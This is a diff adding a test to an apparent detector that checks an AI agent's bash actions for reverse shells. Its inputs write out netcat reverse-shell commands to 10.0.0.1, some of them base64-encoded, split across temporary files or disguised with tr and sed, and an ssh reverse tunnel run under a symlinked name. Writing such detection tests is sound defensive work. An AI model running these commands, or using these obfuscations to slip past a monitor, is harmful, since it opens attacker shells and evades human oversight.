@@ -628,3 +628,19 @@ def test_a_program_copied_into_the_path_runs_by_its_bare_name_in_that_run_only()
     assert "reverse_shell_netcat_exec" in rules(run, "a")           # not the reading cached above
     assert "reverse_shell_netcat_exec" not in rules(run, "b")
     assert "ssh_reverse_tunnel" in rules("ln -s /usr/bin/ssh /usr/local/bin/upd && upd -R 2222:localhost:22 u@h", "c")
+
+
+def test_skipped_writes_land_before_later_ones_and_filters_into_files_are_read():
+    engine = Engine(load())
+
+    def rules(text, episode="e"):
+        event = from_dict({"kind": "action", "ts": 1, "tool": "bash", "input": text, "episode": episode})
+        return {f.rule for f in engine.analyze(event)}
+    for episode in ("a", "b"):  # the second time from the engine's caches
+        rules("echo aGk= > /tmp/qz", episode)  # skipped: kept, and must not land on the newer write
+        rules("d=/tmp/q; echo bmMgLWUgL2Jpbi9zaCAxMC4wLjAuMSA0NDQ0 > ${d}z", episode)
+        assert "reverse_shell_netcat_exec" in rules("base64 -d /tmp/qz | sh", episode)
+    for text in ("echo 'mc -e /bin/sh 10.0.0.1 4444' | tr m n > run.sh; sh run.sh",
+                 "echo 'mc -e /bin/sh 10.0.0.1 4444' > q; sed -i 's/^m/n/' q; sh q",
+                 "cd /tmp && echo 'nc -e /bin/sh 10.0.0.1 4444' | cat > f.sh; sh f.sh"):
+        assert "reverse_shell_netcat_exec" in rules(text, "c")
